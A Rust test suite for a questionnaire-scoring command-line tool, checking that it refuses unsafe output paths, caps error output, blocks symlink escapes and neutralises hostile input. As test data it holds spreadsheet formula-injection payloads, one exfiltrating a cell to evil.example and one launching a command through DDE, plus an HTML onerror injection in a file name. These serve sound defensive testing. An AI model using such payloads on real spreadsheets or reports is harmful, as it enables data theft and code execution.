//! Hostile and unlucky situations, each as it was found: what the tool must do instead. One
//! section per kind of finding: where output may go, what reaches a terminal or a spreadsheet,
//! inputs that are not plain files, sizes that must stay linear, figures that are undefined.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};
use std::process::Output;

use assert_cmd::Command;

const ANSWERS: &str = "examples/answers/telecom-driven.toml";

fn root() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
}

fn centricity(dir: &Path, args: &[&str]) -> Output {
    Command::cargo_bin("centricity")
        .expect("binary")
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .args(args)
        .output()
        .expect("runs")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

fn stdout(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A folder holding a copy of the example answer file as `x.toml`.
fn workdir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::copy(root().join(ANSWERS), dir.path().join("x.toml")).expect("copy");
    dir
}

#[cfg(unix)]
fn mkfifo(path: &Path) {
    let made = std::process::Command::new("mkfifo").arg(path).status();
    assert!(
        made.expect("mkfifo runs").success(),
        "mkfifo {}",
        path.display()
    );
}

// --- Where output may go -------------------------------------------------------------------

#[cfg(unix)]
#[test]
fn output_never_replaces_a_device_a_pipe_or_a_folder_even_with_force() {
    let dir = workdir();
    let fifo = dir.path().join("fifo");
    mkfifo(&fifo);
    std::fs::create_dir(dir.path().join("folder")).expect("mkdir");
    for (target, kind) in [
        ("/dev/null", "is a device"),
        ("fifo", "is a named pipe"),
        ("folder", "is a folder"),
    ] {
        let out = centricity(
            dir.path(),
            &["score", "x.toml", "--output", target, "--force"],
        );
        assert_eq!(out.status.code(), Some(2), "{target}: {}", stderr(&out));
        assert!(stderr(&out).contains(kind), "{target}: {}", stderr(&out));
    }
    assert!(
        std::fs::symlink_metadata(&fifo)
            .expect("fifo kept")
            .file_type()
            .is_fifo_like()
    );
}

trait FifoLike {
    fn is_fifo_like(&self) -> bool;
}

#[cfg(unix)]
impl FifoLike for std::fs::FileType {
    fn is_fifo_like(&self) -> bool {
        std::os::unix::fs::FileTypeExt::is_fifo(self)
    }
}

#[test]
fn output_that_is_an_input_is_refused_under_any_name() {
    let dir = workdir();
    let before = std::fs::read(dir.path().join("x.toml")).expect("read");
    let out = centricity(
        dir.path(),
        &["score", "x.toml", "--output", "x.toml", "--force"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("x.toml is also an input"),
        "{}",
        stderr(&out)
    );
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink("x.toml", dir.path().join("alias.toml")).expect("link");
        let out = centricity(
            dir.path(),
            &["score", "x.toml", "--output", "alias.toml", "--force"],
        );
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
        std::fs::hard_link(dir.path().join("x.toml"), dir.path().join("hard.toml")).expect("link");
        let out = centricity(
            dir.path(),
            &["score", "x.toml", "--output", "hard.toml", "--force"],
        );
        assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    }
    // An answer file inside a folder that is scored is an input too.
    std::fs::create_dir(dir.path().join("d")).expect("mkdir");
    std::fs::copy(dir.path().join("x.toml"), dir.path().join("d/y.toml")).expect("copy");
    let out = centricity(
        dir.path(),
        &["score", "d", "--output", "d/y.toml", "--force"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert_eq!(
        std::fs::read(dir.path().join("x.toml")).expect("read"),
        before
    );
}

#[cfg(unix)]
#[test]
fn a_link_as_output_counts_as_existing_and_is_replaced_by_an_ordinary_file() {
    use std::os::unix::fs::PermissionsExt;
    let dir = workdir();
    std::os::unix::fs::symlink("elsewhere.json", dir.path().join("out.json")).expect("link");
    let out = centricity(dir.path(), &["score", "x.toml", "--output", "out.json"]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("already exists (a symbolic link)"),
        "{}",
        stderr(&out)
    );
    let out = centricity(
        dir.path(),
        &["score", "x.toml", "--output", "out.json", "--force"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let meta = std::fs::symlink_metadata(dir.path().join("out.json")).expect("meta");
    assert!(meta.is_file(), "the link itself was replaced");
    assert_eq!(meta.permissions().mode() & 0o002, 0, "not world-writable");
    assert!(
        !dir.path().join("elsewhere.json").exists(),
        "nothing written through the link"
    );
}

// --- Writes that fail ----------------------------------------------------------------------

#[cfg(target_os = "linux")]
#[test]
fn a_full_disk_or_a_closed_pipe_is_an_error_naming_standard_output_never_a_panic() {
    let dir = workdir();
    for args in [
        &["completions", "bash"][..],
        &["man"],
        &["score", "x.toml"],
        &["score", "x.toml", "--format", "json"],
        &["questionnaires"],
        &["schema", "questionnaire"],
        &["--help"],
    ] {
        let full = std::fs::File::create("/dev/full").expect("/dev/full");
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_centricity"))
            .current_dir(dir.path())
            .args(args)
            .stdout(full)
            .output()
            .expect("runs");
        assert_eq!(out.status.code(), Some(1), "{args:?}: {}", stderr(&out));
        if args[0] != "--help" {
            assert!(
                stderr(&out).contains("cannot write standard output"),
                "{args:?}: {}",
                stderr(&out)
            );
        }
        assert!(
            !stderr(&out).contains("panicked"),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    // A reader that goes away is not an error.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_centricity"))
        .args(["completions", "bash"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("runs");
    drop(child.stdout.take());
    let out = child.wait_with_output().expect("waits");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
}

// --- What reaches a spreadsheet ------------------------------------------------------------

/// The example answer file with its respondent and team replaced.
fn answers_as(dir: &Path, file: &str, respondent: &str, team: &str) {
    let text = std::fs::read_to_string(root().join(ANSWERS)).expect("read");
    let text = text
        .replace(
            "respondent = \"VoC lead\"",
            &format!("respondent = {}", toml_string(respondent)),
        )
        .replace(
            "team = \"Consumer\"",
            &format!("team = {}", toml_string(team)),
        );
    std::fs::write(dir.join(file), text).expect("write");
}

fn toml_string(s: &str) -> String {
    toml::Value::String(s.to_owned()).to_string()
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised() {
    let dir = tempfile::tempdir().expect("temp dir");
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    answers_as(dir.path(), "a.toml", evil, "+cmd|' /C calc'!A0");
    answers_as(dir.path(), "b.toml", "@SUM(1+1)", "-2+3");
    answers_as(dir.path(), "c.toml", "\tTAB", "=1+1");
    let out = centricity(
        dir.path(),
        &["score", "a.toml", "b.toml", "c.toml", "--format", "csv"],
    );
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let cells: Vec<&str> = rows.iter().flat_map(|r| [&r[0], &r[3]]).collect();
    assert_eq!(
        cells,
        [
            format!("'{evil}").as_str(),
            "'+cmd|' /C calc'!A0",
            "'@SUM(1+1)",
            "'-2+3",
            "'\tTAB",
            "'=1+1"
        ]
    );
    // Scores stay numbers.
    let index = reader
        .headers()
        .expect("header")
        .iter()
        .position(|h| h == "index")
        .expect("index column");
    assert_eq!(&rows[0][index], "2.73");

    let out = centricity(
        dir.path(),
        &[
            "summarize",
            "a.toml",
            "b.toml",
            "c.toml",
            "--by",
            "team",
            "--min-group",
            "1",
            "--format",
            "csv",
        ],
    );
    let text = stdout(&out);
    assert!(text.contains("\n'=1+1,1,"), "{text}");
    assert!(text.contains("\n'-2+3,1,"), "{text}");
    assert!(
        !text.contains("\n=") && !text.contains("\n+") && !text.contains("\n@"),
        "{text}"
    );
}

// --- Sizes: every error stream is capped, every message places its problem -----------------

#[test]
fn an_answer_file_with_a_hundred_thousand_unknown_keys_reports_the_first_hundred_and_a_count() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut text = std::fs::read_to_string(root().join(ANSWERS)).expect("read");
    let first_line = text.lines().count() + 1;
    for i in 0..100_000 {
        text.push_str(&format!("x{i}=3\n"));
    }
    std::fs::write(dir.path().join("many.toml"), &text).expect("write");
    let out = centricity(dir.path(), &["score", "many.toml"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.len() < 100_000, "{} bytes of errors", err.len());
    assert!(err.contains("and 99900 more problems"), "{err}");
    // The last one reported is still placed right: indexed lines, not a rescan.
    assert!(
        err.contains(&format!("many.toml:{}:1", first_line + 99)),
        "{err}"
    );
}

#[test]
fn a_csv_export_with_thousands_of_bad_rows_or_duplicate_columns_reports_a_hundred_and_a_count() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut bad = String::from("respondent,focused-knowledge\n");
    for i in 0..20_000 {
        bad.push_str(&format!("r{i},banana\n"));
    }
    std::fs::write(dir.path().join("bad.csv"), bad).expect("write");
    let out = centricity(dir.path(), &["score", "bad.csv", "--format", "csv"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert_eq!(err.matches("banana").count(), 100, "{err}");
    assert!(
        err.contains("bad.csv: ... and 19900 more problems"),
        "{err}"
    );
    assert!(err.contains("bad.csv:101:"), "{err}");
    assert!(!err.contains("bad.csv:102:"), "{err}");

    let header = vec!["focused-knowledge"; 5_000].join(",");
    std::fs::write(
        dir.path().join("dup.csv"),
        format!("respondent,{header}\n1,{}\n", vec!["3"; 5_000].join(",")),
    )
    .expect("write");
    let out = centricity(dir.path(), &["score", "dup.csv"]);
    let err = stderr(&out);
    assert_eq!(err.matches("appears twice").count(), 100, "{err}");
    assert!(err.contains("and 4899 more problems"), "{err}");
}

#[test]
fn a_header_longer_than_the_head_is_refused_not_cut_into_a_false_column() {
    let dir = tempfile::tempdir().expect("temp dir");
    let header: Vec<String> = (0..200_000).map(|i| format!("c{i}")).collect();
    std::fs::write(
        dir.path().join("wide.csv"),
        format!("respondent,{}\n1,2\n", header.join(",")),
    )
    .expect("write");
    let out = centricity(dir.path(), &["score", "wide.csv"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("wide.csv:1: the header is longer than 1 MiB"),
        "{}",
        stderr(&out)
    );
}

// --- Inputs that are not plain files -------------------------------------------------------

const GOOD_CSV: &str = "respondent,focused-knowledge,driven-listening\nann,4,5\nben,2,n/a\n";

#[cfg(unix)]
#[test]
fn a_named_pipe_or_a_process_substitution_is_read_once_and_its_kind_sniffed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let fifo = dir.path().join("f.csv");
    mkfifo(&fifo);
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || std::fs::write(fifo, GOOD_CSV).expect("write fifo"))
    };
    let out = centricity(dir.path(), &["score", "f.csv", "--format", "csv"]);
    writer.join().expect("writer");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(stdout(&out).lines().count(), 3, "{}", stdout(&out));

    // `<(cat x.csv)`: a pipe with no extension, told a CSV by its content.
    std::fs::write(dir.path().join("x.csv"), GOOD_CSV).expect("write");
    let out = std::process::Command::new("bash")
        .current_dir(dir.path())
        .arg("-c")
        .arg(format!(
            "'{}' score <(cat x.csv) --format csv",
            env!("CARGO_BIN_EXE_centricity")
        ))
        .output()
        .expect("bash");
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(stdout(&out).contains("\nann,"), "{}", stdout(&out));
}

#[test]
fn standard_input_is_limited_while_it_is_read() {
    // Zeros are refused within the first bytes, not after filling the disk.
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_centricity"))
        .args(["score", "-"])
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("runs");
    let mut stdin = child.stdin.take().expect("stdin");
    let feeder = std::thread::spawn(move || {
        use std::io::Write;
        let zeros = vec![0u8; 1 << 20];
        let mut sent = 0usize;
        // Stops when the tool closes its end; 350 MiB would be the disk-filling case.
        while sent < 350 << 20 && stdin.write_all(&zeros).is_ok() {
            sent += zeros.len();
        }
        sent
    });
    let out = child.wait_with_output().expect("waits");
    let sent = feeder.join().expect("feeder");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("<stdin>: binary data, not text"),
        "{}",
        stderr(&out)
    );
    assert!(sent < 64 << 20, "read {sent} bytes before refusing");

    // An answer file on standard input is held to the answer-file limit as it arrives.
    let mut big = std::fs::read_to_string(root().join(ANSWERS)).expect("read");
    big.push_str(&"# padding\n".repeat(200_000));
    let out = Command::cargo_bin("centricity")
        .expect("binary")
        .args(["score", "-"])
        .write_stdin(big)
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("larger than an answer file may be"),
        "{}",
        stderr(&out)
    );
}

#[cfg(unix)]
#[test]
fn a_folder_never_leads_out_of_itself_through_a_link() {
    let dir = workdir();
    let outside = dir.path().join("secret.toml");
    std::fs::write(
        &outside,
        "root:$6$hash-that-must-not-be-printed:19000:0:99999:7:::\n",
    )
    .expect("write");
    let folder = dir.path().join("answers");
    std::fs::create_dir(&folder).expect("mkdir");
    std::fs::copy(dir.path().join("x.toml"), folder.join("a.toml")).expect("copy");
    std::os::unix::fs::symlink(&outside, folder.join("x.toml")).expect("link");
    std::os::unix::fs::symlink("a.toml", folder.join("same.toml")).expect("link");
    let out = centricity(dir.path(), &["score", "answers", "--format", "csv"]);
    let err = stderr(&out);
    assert!(!err.contains("hash-that-must-not-be-printed"), "{err}");
    assert!(
        err.contains("x.toml: not read: a link to a file outside the folder"),
        "{err}"
    );
    // A link inside the folder is followed.
    assert_eq!(stdout(&out).lines().count(), 3, "{}", stdout(&out));
}

#[test]
fn a_file_that_is_not_toml_is_never_quoted_at_length() {
    let dir = tempfile::tempdir().expect("temp dir");
    std::fs::write(
        dir.path().join("shadow"),
        "root:$6$hash-that-must-not-be-printed:19000:0:99999:7:::\n",
    )
    .expect("write");
    let out = centricity(dir.path(), &["score", "shadow"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    assert!(err.contains("shadow:1:"), "{err}");
    assert!(err.contains("does not look like TOML"), "{err}");
    assert!(!err.contains("hash-that-must-not-be-printed"), "{err}");
}

#[test]
fn a_file_that_changes_while_it_is_read_is_never_scored_as_if_whole() {
    let dir = tempfile::tempdir().expect("temp dir");
    let mut text = String::from("respondent,focused-knowledge\n");
    for i in 0..200_000 {
        text.push_str(&format!("r{i},4\n"));
    }
    // Cut at a row boundary, so that what remains is a well-formed export of fewer rows.
    let cut = text[..1 << 20].rfind('\n').expect("a row") + 1;
    let rows_after_cut = text[..cut].lines().count() - 1;
    let path = dir.path().join("big.csv");
    for delay in [0, 5, 10, 20, 30, 40, 60, 80] {
        std::fs::write(&path, &text).expect("write");
        let cutter = {
            let path = path.clone();
            std::thread::spawn(move || {
                std::thread::sleep(std::time::Duration::from_millis(delay));
                let f = std::fs::OpenOptions::new()
                    .write(true)
                    .open(path)
                    .expect("open");
                f.set_len(cut as u64).expect("truncate");
            })
        };
        let out = centricity(dir.path(), &["score", "big.csv", "--format", "csv"]);
        cutter.join().expect("cutter");
        let rows = stdout(&out).lines().count().saturating_sub(1);
        match out.status.code() {
            // Read whole before the cut, or opened after it: the file as it was, all of it.
            Some(0) => assert!(
                rows == 200_000 || rows == rows_after_cut,
                "delay {delay}: {rows} rows scored"
            ),
            _ => assert!(
                stderr(&out).contains("big.csv: the file changed while it was read"),
                "delay {delay}: {}",
                stderr(&out)
            ),
        }
    }
}

// --- Messages that place and word their problem --------------------------------------------

#[test]
fn messages_name_the_line_and_word_numbers_briefly_whatever_the_line_endings() {
    let dir = tempfile::tempdir().expect("temp dir");
    let answers = std::fs::read_to_string(root().join(ANSWERS)).expect("read");
    let cases = [
        (
            "dotted.toml",
            format!(
                "questionnaire = \"customer-centricity\"\n{} = 1\n",
                vec!["a"; 200].join(".")
            ),
            "dotted.toml:2: values are nested too deeply",
        ),
        (
            "cr.toml",
            answers.replace('\n', "\r"),
            "cr.toml: lines end with a carriage return alone",
        ),
        (
            "tiny.toml",
            answers.replace(
                "focused-know-customers = 5",
                "focused-know-customers = 5e-324",
            ),
            "5e-324 is not an option of scale `adoption`",
        ),
        (
            "cr.csv",
            "respondent,focused-knowledge\rann,4\rben,banana\r".to_owned(),
            "cr.csv:3: data row 2 (respondent `ben`)",
        ),
    ];
    for (file, text, expected) in cases {
        std::fs::write(dir.path().join(file), &text).expect("write");
        let out = centricity(dir.path(), &["score", file]);
        assert_eq!(out.status.code(), Some(1), "{file}");
        assert!(stderr(&out).contains(expected), "{file}: {}", stderr(&out));
        assert!(stderr(&out).len() < 2_000, "{file}: {}", stderr(&out));
    }
}

// --- Figures from no data ------------------------------------------------------------------

#[test]
fn gap_gives_no_verdict_when_a_side_answered_nothing() {
    let dir = tempfile::tempdir().expect("temp dir");
    let header = std::fs::read_to_string(root().join("examples/gap/customers.csv"))
        .expect("read")
        .lines()
        .next()
        .expect("header")
        .to_owned();
    let columns = header.split(',').count();
    let mut csv = format!("{header}\n");
    for i in 0..5 {
        csv.push_str(&format!(
            "C{i},household,email{}\n",
            ",n/a".repeat(columns - 3)
        ));
    }
    std::fs::write(dir.path().join("customers.csv"), csv).expect("write");
    let workshop = root().join("examples/gap/workshop");
    for format in ["table", "markdown", "json", "html"] {
        let out = centricity(
            dir.path(),
            &[
                "gap",
                workshop.to_str().expect("path"),
                "customers.csv",
                "--format",
                format,
            ],
        );
        let text = stdout(&out);
        assert!(!text.contains("No blind spot"), "{format}: {text}");
        assert!(
            text.contains("No verdict: the customer side answered none of the mirrored statements"),
            "{format}: {text}"
        );
    }
}

#[test]
fn compare_refuses_saved_results_with_figures_out_of_range() {
    let dir = workdir();
    let out = centricity(dir.path(), &["score", "x.toml", "--format", "json"]);
    let saved = stdout(&out);
    std::fs::write(dir.path().join("before.json"), &saved).expect("write");
    let mut doc: serde_json::Value = serde_json::from_str(&saved).expect("json");
    doc["results"][0]["index"] = serde_json::json!(1.7e308);
    std::fs::write(dir.path().join("huge.json"), doc.to_string()).expect("write");
    let mut doc: serde_json::Value = serde_json::from_str(&saved).expect("json");
    doc["results"][0]["stages"][1]["score"] = serde_json::json!(-3.5);
    std::fs::write(dir.path().join("negative.json"), doc.to_string()).expect("write");
    for (file, expected) in [
        (
            "huge.json",
            "`index` is 1.7e308, but it lies between 0 and 4",
        ),
        (
            "negative.json",
            "`stages[1].score` is -3.5, but it lies between 0 and 100",
        ),
    ] {
        for format in ["table", "csv", "json"] {
            let out = centricity(
                dir.path(),
                &["compare", "before.json", file, "--format", format],
            );
            assert_eq!(out.status.code(), Some(1), "{file} {format}");
            assert!(stderr(&out).contains(expected), "{file}: {}", stderr(&out));
            assert!(out.stdout.is_empty(), "{file} {format}: {}", stdout(&out));
        }
    }
    let out = centricity(dir.path(), &["compare", "before.json", "before.json"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
}

#[cfg(unix)]
#[test]
fn a_path_cannot_break_out_of_its_code_span_in_a_markdown_report() {
    let dir = workdir();
    let name = "a\n\n<img src=\"x\" onerror=\"alert(1)\">`\n\n.toml";
    std::fs::copy(dir.path().join("x.toml"), dir.path().join(name)).expect("copy");
    let out = centricity(dir.path(), &["score", name, "--format", "markdown"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let text = stdout(&out);
    let line = text
        .lines()
        .find(|l| l.contains("onerror"))
        .expect("the path is shown");
    // On one line, inside one code span: a Markdown renderer shows it as text.
    assert!(
        line.contains("`a  <img src=\"x\" onerror=\"alert(1)\">'  .toml`"),
        "{line}"
    );
    assert!(!text.lines().any(|l| l.starts_with("<img")), "{text}");
}
